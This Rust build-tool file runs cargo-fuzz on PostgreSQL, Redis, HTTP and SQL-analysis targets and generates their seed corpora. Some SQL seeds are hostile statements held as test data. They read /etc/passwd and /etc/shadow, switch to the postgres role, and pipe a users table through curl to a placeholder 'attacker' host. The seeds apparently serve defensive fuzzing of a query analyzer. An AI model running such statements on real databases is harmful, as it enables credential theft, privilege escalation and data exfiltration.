//! `cargo xtask fuzz`, and the short fuzz runs at the end of `cargo xtask test`.
//!
//! The fuzz crate (`fuzz/`, not a workspace member) is built by
//! `cargo +nightly fuzz` (cargo-fuzz, libFuzzer, AddressSanitizer) into
//! [`target_dir`]. Each target starts from the seeds written here (valid
//! messages of every kind the session meets) plus whatever earlier runs added
//! to `fuzz/corpus/<target>/`; crashes land in `fuzz/artifacts/<target>/`.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Instant, SystemTime};

use anyhow::{bail, Context, Result};

use crate::util::{run, show, step, workspace_root};

/// The fuzz targets (`fuzz/fuzz_targets/<name>.rs`).
pub const TARGETS: &[&str] = &[
    "pg_frontend",
    "pg_backend",
    "sql_analyze",
    "redis_resp",
    "http_request",
];

#[path = "fuzz_seeds/http.rs"]
mod http_seeds;
#[path = "fuzz_seeds/redis.rs"]
mod redis_seeds;

/// The toolchain cargo-fuzz builds with (sanitizers need nightly); the same
/// one that builds the eBPF programs.
const NIGHTLY: &str = "+nightly";

/// Seconds per target in `cargo xtask test`.
pub const TEST_SECONDS: u64 = 20;

/// Build settings shared by `cargo fuzz build` and `cargo fuzz run` (they
/// must match, or `run` rebuilds). cargo-fuzz's default of 1 codegen unit
/// leaves a core idle while the big crates (sqlparser, arrow, parquet) build.
const BUILD_ARGS: &[&str] = &["--codegen-units", "16"];

/// Overrides [`target_dir`].
const TARGET_DIR_ENV: &str = "INTERCEPTOR_FUZZ_TARGET_DIR";

fn fuzz_dir() -> PathBuf {
    workspace_root().join("fuzz")
}

/// Where the instrumented build goes: `$INTERCEPTOR_FUZZ_TARGET_DIR`, else
/// `~/.cache/interceptor/fuzz-target`. Not the workspace's target dir (these
/// artifacts are nightly and instrumented), and not inside the checkout:
/// CI runs in a fresh clone, and a cold build of this crate takes minutes on
/// a 2-core machine while a warm one only rebuilds `interceptor`.
fn target_dir() -> Result<PathBuf> {
    if let Some(dir) = std::env::var_os(TARGET_DIR_ENV).filter(|d| !d.is_empty()) {
        return Ok(PathBuf::from(dir));
    }
    let home = std::env::var_os("HOME").context("HOME is not set")?;
    Ok(Path::new(&home).join(".cache/interceptor/fuzz-target"))
}

/// `cargo +nightly fuzz <sub> ...`, from the workspace root.
fn cargo_fuzz(sub: &str, target_dir: &Path) -> Command {
    let mut cmd = Command::new("cargo");
    cmd.current_dir(workspace_root())
        .env_remove("RUSTUP_TOOLCHAIN")
        .args([NIGHTLY, "fuzz", sub])
        .args(BUILD_ARGS)
        .arg("--target-dir")
        .arg(target_dir);
    cmd
}

/// Builds every target, then fuzzes each (or `only`) for `seconds`, one
/// after another; fails if any crashed, after naming the inputs that did it.
pub fn fuzz(only: Option<&str>, seconds: u64) -> Result<()> {
    let targets: Vec<&str> = match only {
        Some(t) if TARGETS.contains(&t) => vec![t],
        Some(t) => bail!(
            "no fuzz target `{t}`: the targets are {}",
            TARGETS.join(", ")
        ),
        None => TARGETS.to_vec(),
    };
    if Command::new("cargo")
        .args(["fuzz", "--version"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .map_or(true, |s| !s.success())
    {
        bail!("cargo-fuzz is not installed: run `cargo xtask setup`");
    }
    write_seeds(&fuzz_dir().join("corpus"))?;
    let target_dir = target_dir()?;

    let started = Instant::now();
    step(format!(
        "building the fuzz targets into {} (cargo {NIGHTLY} fuzz build, AddressSanitizer)",
        target_dir.display()
    ));
    run(&mut cargo_fuzz("build", &target_dir)).context(
        "building the fuzz crate failed: see the compiler output above \
         (nightly toolchain and cargo-fuzz come from `cargo xtask setup`)",
    )?;
    let build_secs = started.elapsed().as_secs_f64();
    println!("    fuzz build took {build_secs:.0}s");

    let mut failed = Vec::new();
    for target in &targets {
        if let Err(e) = run_target(target, seconds, &target_dir) {
            eprintln!("error: {e:#}");
            failed.push(*target);
        }
    }
    println!(
        "fuzzing took {:.0}s in all (build {build_secs:.0}s)",
        started.elapsed().as_secs_f64()
    );
    if !failed.is_empty() {
        bail!("fuzz target(s) failed: {}", failed.join(", "));
    }
    Ok(())
}

/// One target for `seconds`; its libFuzzer output goes to a log file, a
/// summary line to stdout.
fn run_target(target: &str, seconds: u64, target_dir: &Path) -> Result<()> {
    let logs = target_dir.join("xtask-logs");
    fs::create_dir_all(&logs).with_context(|| format!("could not create {}", logs.display()))?;
    let log_path = logs.join(format!("{target}.log"));
    let log = fs::File::create(&log_path)
        .with_context(|| format!("could not create {}", log_path.display()))?;
    let artifacts = fuzz_dir().join("artifacts").join(target);
    let since = SystemTime::now();

    let mut cmd = cargo_fuzz("run", target_dir);
    cmd.arg(target).arg("--").args([
        format!("-max_total_time={seconds}"),
        "-rss_limit_mb=2048".to_string(),
        // One input taking this long is a denial of service in itself.
        "-timeout=10".to_string(),
        "-print_final_stats=1".to_string(),
    ]);
    step(format!("fuzzing {target} for {seconds}s ({})", show(&cmd)));
    let t0 = Instant::now();
    let status = cmd
        .stdin(Stdio::null())
        .stdout(log.try_clone()?)
        .stderr(log)
        .status()
        .with_context(|| format!("could not start `{}`", show(&cmd)))?;
    let secs = t0.elapsed().as_secs_f64();
    let text = fs::read_to_string(&log_path).unwrap_or_default();
    let summary = summarize(&text);
    if status.success() {
        println!("    {target}: ok after {secs:.0}s, {summary}");
        return Ok(());
    }

    // Show what libFuzzer said about it, then where the input is.
    let lines: Vec<&str> = text.lines().collect();
    let from = lines
        .iter()
        .position(|l| {
            l.contains("==ERROR") || l.contains("panicked at") || l.contains("deadly signal")
        })
        .unwrap_or(lines.len().saturating_sub(40));
    for line in &lines[from..lines.len().min(from + 60)] {
        eprintln!("    | {line}");
    }
    let inputs = new_artifacts(&artifacts, since);
    if inputs.is_empty() {
        bail!(
            "fuzzing {target} failed ({status}) without saving an input; full output in {}",
            log_path.display()
        );
    }
    for input in &inputs {
        eprintln!("    crash input: {}", input.display());
        eprintln!(
            "    reproduce:   cargo {NIGHTLY} fuzz run {} --target-dir {} {target} {}",
            BUILD_ARGS.join(" "),
            target_dir.display(),
            input.display()
        );
    }
    bail!(
        "fuzz target {target} crashed ({status}): input saved to {}; full output in {}",
        inputs[0].display(),
        log_path.display()
    )
}

/// "1234567 runs, cov 1234, corpus 321" from libFuzzer's final lines.
fn summarize(log: &str) -> String {
    let runs = log
        .lines()
        .find_map(|l| l.strip_prefix("stat::number_of_executed_units:"))
        .map(|v| v.trim().to_string());
    let done = log
        .lines()
        .rev()
        .find(|l| l.contains(" DONE ") || l.contains("\tDONE"));
    let field = |name: &str| -> Option<String> {
        let line = done?;
        let rest = &line[line.find(name)? + name.len()..];
        Some(rest.split_whitespace().next()?.to_string())
    };
    let mut parts = Vec::new();
    if let Some(r) = runs {
        parts.push(format!("{r} runs"));
    }
    if let Some(c) = field("cov:") {
        parts.push(format!("cov {c}"));
    }
    if let Some(c) = field("corp:") {
        parts.push(format!("corpus {c}"));
    }
    if parts.is_empty() {
        "no libFuzzer statistics".to_string()
    } else {
        parts.join(", ")
    }
}

/// Crash, leak, timeout and OOM inputs libFuzzer saved since `since`.
fn new_artifacts(dir: &Path, since: SystemTime) -> Vec<PathBuf> {
    let Ok(entries) = fs::read_dir(dir) else {
        return Vec::new();
    };
    let mut found: Vec<PathBuf> = entries
        .flatten()
        .filter(|e| {
            e.metadata()
                .and_then(|m| m.modified())
                .is_ok_and(|t| t >= since)
        })
        .map(|e| e.path())
        .collect();
    found.sort();
    found
}

/// Writes the seed corpus (fuzz/corpus/<target>/seed-<name>), leaving files
/// that already hold the right bytes alone.
pub fn write_seeds(corpus: &Path) -> Result<()> {
    for (target, name, bytes) in seeds() {
        let dir = corpus.join(target);
        fs::create_dir_all(&dir).with_context(|| format!("could not create {}", dir.display()))?;
        let path = dir.join(format!("seed-{name}"));
        if fs::read(&path).is_ok_and(|old| old == bytes) {
            continue;
        }
        fs::write(&path, &bytes).with_context(|| format!("could not write {}", path.display()))?;
    }
    Ok(())
}

/// A tagged message: tag, length (including itself), body.
fn msg(tag: u8, body: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    out.extend_from_slice(&(body.len() as u32 + 4).to_be_bytes());
    out.extend_from_slice(body);
    out
}

/// A startup-phase message: length (including itself), body.
fn untagged(body: &[u8]) -> Vec<u8> {
    let mut out = (body.len() as u32 + 4).to_be_bytes().to_vec();
    out.extend_from_slice(body);
    out
}

fn cstr(out: &mut Vec<u8>, s: &str) {
    out.extend_from_slice(s.as_bytes());
    out.push(0);
}

fn value(out: &mut Vec<u8>, v: Option<&[u8]>) {
    match v {
        None => out.extend_from_slice(&(-1i32).to_be_bytes()),
        Some(v) => {
            out.extend_from_slice(&(v.len() as u32).to_be_bytes());
            out.extend_from_slice(v);
        }
    }
}

fn startup(params: &[(&str, &str)]) -> Vec<u8> {
    let mut body = 196_608u32.to_be_bytes().to_vec();
    for (k, v) in params {
        cstr(&mut body, k);
        cstr(&mut body, v);
    }
    body.push(0);
    untagged(&body)
}

fn query(sql: &str) -> Vec<u8> {
    let mut b = Vec::new();
    cstr(&mut b, sql);
    msg(b'Q', &b)
}

fn parse(name: &str, sql: &str, types: &[u32]) -> Vec<u8> {
    let mut b = Vec::new();
    cstr(&mut b, name);
    cstr(&mut b, sql);
    b.extend_from_slice(&(types.len() as u16).to_be_bytes());
    for t in types {
        b.extend_from_slice(&t.to_be_bytes());
    }
    msg(b'P', &b)
}

fn bind(portal: &str, statement: &str, formats: &[i16], params: &[Option<&[u8]>]) -> Vec<u8> {
    let mut b = Vec::new();
    cstr(&mut b, portal);
    cstr(&mut b, statement);
    b.extend_from_slice(&(formats.len() as u16).to_be_bytes());
    for f in formats {
        b.extend_from_slice(&f.to_be_bytes());
    }
    b.extend_from_slice(&(params.len() as u16).to_be_bytes());
    for p in params {
        value(&mut b, *p);
    }
    b.extend_from_slice(&1u16.to_be_bytes());
    b.extend_from_slice(&0i16.to_be_bytes());
    msg(b'B', &b)
}

fn describe_or_close(tag: u8, kind: u8, name: &str) -> Vec<u8> {
    let mut b = vec![kind];
    cstr(&mut b, name);
    msg(tag, &b)
}

fn execute(portal: &str, max_rows: i32) -> Vec<u8> {
    let mut b = Vec::new();
    cstr(&mut b, portal);
    b.extend_from_slice(&max_rows.to_be_bytes());
    msg(b'E', &b)
}

fn auth(code: i32, rest: &[u8]) -> Vec<u8> {
    let mut b = code.to_be_bytes().to_vec();
    b.extend_from_slice(rest);
    msg(b'R', &b)
}

fn sasl(mechanisms: &[&str]) -> Vec<u8> {
    let mut rest = Vec::new();
    for m in mechanisms {
        cstr(&mut rest, m);
    }
    rest.push(0);
    auth(10, &rest)
}

fn row_description(fields: &[(&str, u32, i16, u32, i16)]) -> Vec<u8> {
    let mut b = (fields.len() as u16).to_be_bytes().to_vec();
    for (name, table, attr, type_oid, size) in fields {
        cstr(&mut b, name);
        b.extend_from_slice(&table.to_be_bytes());
        b.extend_from_slice(&attr.to_be_bytes());
        b.extend_from_slice(&type_oid.to_be_bytes());
        b.extend_from_slice(&size.to_be_bytes());
        b.extend_from_slice(&(-1i32).to_be_bytes());
        b.extend_from_slice(&0i16.to_be_bytes());
    }
    msg(b'T', &b)
}

fn data_row(columns: &[Option<&[u8]>]) -> Vec<u8> {
    let mut b = (columns.len() as u16).to_be_bytes().to_vec();
    for c in columns {
        value(&mut b, *c);
    }
    msg(b'D', &b)
}

fn tagged_cstr(tag: u8, s: &str) -> Vec<u8> {
    let mut b = Vec::new();
    cstr(&mut b, s);
    msg(tag, &b)
}

fn fields_message(tag: u8, fields: &[(u8, &str)]) -> Vec<u8> {
    let mut b = Vec::new();
    for (code, v) in fields {
        b.push(*code);
        cstr(&mut b, v);
    }
    b.push(0);
    msg(tag, &b)
}

fn cat(parts: &[Vec<u8>]) -> Vec<u8> {
    parts.concat()
}

/// (target, name, bytes) of every seed: valid messages and conversations.
pub fn seeds() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let mut all = pg_seeds();
    all.extend(redis_seeds::seeds());
    all.extend(http_seeds::seeds());
    all
}

/// Seeds of the PostgreSQL and SQL targets.
fn pg_seeds() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let ssl_request = untagged(&80_877_103u32.to_be_bytes());
    let gssenc_request = untagged(&80_877_104u32.to_be_bytes());
    let mut cancel = 80_877_102u32.to_be_bytes().to_vec();
    cancel.extend_from_slice(&4242i32.to_be_bytes());
    cancel.extend_from_slice(&[1, 2, 3, 4]);
    let cancel = untagged(&cancel);
    let start = startup(&[
        ("user", "app"),
        ("database", "ci"),
        ("application_name", "psql"),
        ("client_encoding", "UTF8"),
    ]);
    let sync = msg(b'S', &[]);
    let sql = "SELECT id, name, email FROM users WHERE id = $1";
    let extended = cat(&[
        parse("", sql, &[23]),
        bind("", "", &[0], &[Some(b"1")]),
        describe_or_close(b'D', b'P', ""),
        execute("", 0),
        sync.clone(),
    ]);
    let prepared = cat(&[
        parse("s1", sql, &[]),
        describe_or_close(b'D', b'S', "s1"),
        sync.clone(),
        bind("p1", "s1", &[1], &[Some(&1i32.to_be_bytes())]),
        execute("p1", 10),
        describe_or_close(b'C', b'P', "p1"),
        describe_or_close(b'C', b'S', "s1"),
        msg(b'H', &[]),
        sync.clone(),
        msg(b'X', &[]),
    ]);
    let mut sasl_initial = Vec::new();
    cstr(&mut sasl_initial, "SCRAM-SHA-256");
    value(
        &mut sasl_initial,
        Some(b"n,,n=,r=rOprNGfwEbeRWgbNEkqO".as_slice()),
    );
    let password_exchange = cat(&[
        msg(b'p', &sasl_initial),
        msg(b'p', b"c=biws,r=rOprNGfwEbeRWgbNEkqO%hvYDpWUa2RaTCAfuxFIlj)hNlF$k0,p=dHzbZapWIk4jUhN+Ute9ytag9zjfMHgsqmmiz7AndVQ="),
    ]);
    let copy_in = cat(&[
        query("COPY users FROM STDIN"),
        msg(b'd', b"4\tdave\tdave@example.com\n"),
        msg(b'c', &[]),
        tagged_cstr(b'f', "aborted by the client"),
    ]);
    let mut function_call = 1234u32.to_be_bytes().to_vec();
    function_call.extend_from_slice(&1u16.to_be_bytes());
    function_call.extend_from_slice(&0i16.to_be_bytes());
    function_call.extend_from_slice(&1u16.to_be_bytes());
    value(&mut function_call, Some(b"/etc/passwd"));
    function_call.extend_from_slice(&0i16.to_be_bytes());
    let function_call = msg(b'F', &function_call);

    let users = row_description(&[
        ("id", 16385, 1, 23, 4),
        ("name", 16385, 2, 25, -1),
        ("password", 16385, 4, 25, -1),
    ]);
    let row = data_row(&[Some(b"1"), Some(b"alice"), None]);
    let mut key_data = 4242i32.to_be_bytes().to_vec();
    key_data.extend_from_slice(&[9, 8, 7, 6]);
    let mut param_status = Vec::new();
    cstr(&mut param_status, "server_version");
    cstr(&mut param_status, "15.8");
    let ready = msg(b'Z', b"I");
    let server_hello = cat(&[
        sasl(&["SCRAM-SHA-256-PLUS", "SCRAM-SHA-256"]),
        auth(11, b"r=rOprNGfwEbeRWgbNEkqO%hvYDpWUa2RaTCAfuxFIlj)hNlF$k0,s=W22ZaJ0SNY7soEsUEjb6gQ==,i=4096"),
        auth(12, b"v=6rriTRBi23WpRR/wtup+mMhUZUn/dB5nLTJRsjl95G4="),
        auth(0, &[]),
        msg(b'S', &param_status),
        msg(b'K', &key_data),
        ready.clone(),
    ]);
    let select_reply = cat(&[
        users.clone(),
        row.clone(),
        data_row(&[Some(b"2"), Some(b"bob"), Some(b"pw-row-2")]),
        tagged_cstr(b'C', "SELECT 2"),
        ready.clone(),
    ]);
    let mut param_desc = 1u16.to_be_bytes().to_vec();
    param_desc.extend_from_slice(&23u32.to_be_bytes());
    let extended_reply = cat(&[
        msg(b'1', &[]),
        msg(b't', &param_desc),
        users.clone(),
        msg(b'2', &[]),
        row.clone(),
        msg(b's', &[]),
        msg(b'3', &[]),
        msg(b'n', &[]),
        msg(b'I', &[]),
        ready.clone(),
    ]);
    let errors = cat(&[
        fields_message(
            b'E',
            &[
                (b'S', "ERROR"),
                (b'V', "ERROR"),
                (b'C', "42501"),
                (b'M', "permission denied for table users"),
            ],
        ),
        fields_message(
            b'N',
            &[
                (b'S', "NOTICE"),
                (b'C', "00000"),
                (b'M', "table does not exist, skipping"),
            ],
        ),
        msg(b'Z', b"E"),
    ]);
    let mut copy_out = vec![0u8];
    copy_out.extend_from_slice(&2u16.to_be_bytes());
    copy_out.extend_from_slice(&[0, 0, 0, 0]);
    let mut notify = 4242i32.to_be_bytes().to_vec();
    cstr(&mut notify, "jobs");
    cstr(&mut notify, "payload");
    let mut negotiate = 0i32.to_be_bytes().to_vec();
    negotiate.extend_from_slice(&1i32.to_be_bytes());
    cstr(&mut negotiate, "_pq_.unknown");
    let mut fn_result = Vec::new();
    value(&mut fn_result, Some(b"42"));
    let misc_reply = cat(&[
        msg(b'H', &copy_out),
        msg(b'd', b"1\talice\n"),
        msg(b'c', &[]),
        msg(b'A', &notify),
        msg(b'v', &negotiate),
        msg(b'V', &fn_result),
        auth(5, &[1, 2, 3, 4]),
        auth(3, &[]),
    ]);

    vec![
        ("pg_frontend", "ssl-request", ssl_request.clone()),
        ("pg_frontend", "gssenc-request", gssenc_request),
        ("pg_frontend", "cancel-request", cancel),
        ("pg_frontend", "startup", start.clone()),
        (
            "pg_frontend",
            "ssl-then-startup-query",
            cat(&[ssl_request, start.clone(), query("SELECT 1")]),
        ),
        ("pg_frontend", "query", query("SELECT 1")),
        (
            "pg_frontend",
            "startup-extended",
            cat(&[start.clone(), extended]),
        ),
        ("pg_frontend", "prepared", prepared),
        (
            "pg_frontend",
            "scram-exchange",
            cat(&[start, password_exchange]),
        ),
        ("pg_frontend", "copy-in", copy_in),
        ("pg_frontend", "function-call", function_call),
        ("pg_backend", "auth-sasl-plus", sasl(&["SCRAM-SHA-256-PLUS", "SCRAM-SHA-256"])),
        ("pg_backend", "server-hello", server_hello),
        ("pg_backend", "row-description", users),
        ("pg_backend", "data-row", row),
        ("pg_backend", "select-reply", select_reply),
        ("pg_backend", "extended-reply", extended_reply),
        ("pg_backend", "errors", errors),
        ("pg_backend", "misc", misc_reply),
        ("sql_analyze", "select-1", b"SELECT 1".to_vec()),
        (
            "sql_analyze",
            "join-where",
            b"SELECT u.id, upper(u.email) FROM public.users u JOIN orgs o ON o.id = u.org_id WHERE u.id = $1 AND o.name LIKE 'a%' ORDER BY 1 LIMIT 10".to_vec(),
        ),
        (
            "sql_analyze",
            "cte-delete",
            b"WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d".to_vec(),
        ),
        (
            "sql_analyze",
            "multi",
            b"BEGIN; UPDATE users SET name = 'x' WHERE id = 2; SELECT pg_catalog.pg_read_file('/etc/passwd'); COMMIT".to_vec(),
        ),
        (
            "sql_analyze",
            "do-block",
            b"DO $$ BEGIN PERFORM pg_read_file('x'); END $$; COPY users TO PROGRAM 'curl -d @- attacker'".to_vec(),
        ),
        (
            "sql_analyze",
            "prepare-set-role",
            b"PREPARE p AS DELETE FROM users; SET ROLE postgres; SELECT set_config('role', 'postgres', false)".to_vec(),
        ),
        (
            "sql_analyze",
            "nested",
            b"SELECT * FROM (SELECT lo_import('/etc/shadow') FROM (SELECT ((((1)))) AS x) y) s /* c */ -- d".to_vec(),
        ),
        (
            "sql_analyze",
            "insert-returning",
            b"INSERT INTO users (id, name) VALUES (1, E'a\\'b'), (2, $$x$$) ON CONFLICT (id) DO UPDATE SET name = excluded.name RETURNING id".to_vec(),
        ),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every seed's messages are framed right: lengths add up to the file.
    #[test]
    fn seeds_are_well_framed() {
        for (target, name, bytes) in pg_seeds() {
            if target == "sql_analyze" {
                assert!(std::str::from_utf8(&bytes).is_ok(), "{name}");
                continue;
            }
            let mut rest = &bytes[..];
            // A client's startup-phase messages come first (no tag; protocol
            // or request code in the top 16 bits: 3 or 1234).
            while target == "pg_frontend" && rest.len() >= 8 {
                let code = u32::from_be_bytes(rest[4..8].try_into().unwrap());
                if code >> 16 != 3 && code >> 16 != 1234 {
                    break;
                }
                let len = u32::from_be_bytes(rest[..4].try_into().unwrap()) as usize;
                assert!(len >= 8 && len <= rest.len(), "{target}/{name}");
                rest = &rest[len..];
            }
            while !rest.is_empty() {
                assert!(rest.len() >= 5, "{target}/{name}: trailing bytes");
                let len = u32::from_be_bytes(rest[1..5].try_into().unwrap()) as usize;
                assert!(len >= 4 && len < rest.len(), "{target}/{name}: bad length");
                rest = &rest[1 + len..];
            }
        }
    }

    #[test]
    fn seed_names_are_unique_per_target() {
        let mut names: Vec<(&str, &str)> = seeds().iter().map(|(t, n, _)| (*t, *n)).collect();
        let n = names.len();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), n);
        assert!(seeds().iter().all(|(t, _, _)| TARGETS.contains(t)));
    }

    #[test]
    fn summary_reads_libfuzzer_stats() {
        let log = "#2\tINITED cov: 10 ft: 11 corp: 3/120b exec/s: 0 rss: 40Mb\n\
                   #52311\tDONE   cov: 1180 ft: 4321 corp: 410/33Kb lim: 4096 exec/s: 2490 rss: 310Mb\n\
                   Done 52311 runs in 21 second(s)\n\
                   stat::number_of_executed_units: 52311\n";
        assert_eq!(summarize(log), "52311 runs, cov 1180, corpus 410/33Kb");
        assert_eq!(summarize(""), "no libFuzzer statistics");
    }
}
